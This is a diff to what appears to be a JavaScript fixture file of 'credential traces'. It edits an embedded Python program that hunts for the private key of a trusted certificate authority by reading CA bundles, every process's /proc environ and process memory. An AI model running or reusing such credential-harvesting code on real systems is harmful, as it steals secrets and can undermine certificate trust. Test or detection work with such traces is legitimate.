@@ -8,6 +8,7 @@ export const credentialTraces = [
     title: "find the private key of an authority that programs inside trust",
     needsCredentials: true,
     program: String.raw`
+import ssl, tempfile
 block = re.compile(rb"-----BEGIN ([A-Z ]+)-----.+?-----END \1-----", re.S)
 stores = {value for name, value in os.environ.items() if re.search("(?i)cert|cafile|cainfo|bundle", name) and os.path.isabs(value)}
 stores |= {"/etc/ssl/certs/ca-certificates.crt", "/etc/pki/tls/certs/ca-bundle.crt", "/etc/ssl/cert.pem"}
@@ -33,9 +34,9 @@ def texts():
             path = os.path.join(folder, name)
             if os.path.isfile(path) and not name.endswith(".0"):
                 yield from each_content(path)
-    for path in glob("/proc/[0-9]*/environ"):
+    for path in glob.glob("/proc/[0-9]*/environ"):
         yield from each_content(path)
-    for process in glob("/proc/[0-9]*"):
+    for process in glob.glob("/proc/[0-9]*"):
         try:
             yield from memory(process)
         except OSError:
@@ -48,7 +49,6 @@ def each_content(path):
         return
 
 def matches(certificate, key):
-    import ssl, tempfile
     with tempfile.NamedTemporaryFile() as one, tempfile.NamedTemporaryFile() as other:
         one.write(certificate + b"\n"), one.flush(), other.write(key + b"\n"), other.flush()
         try:
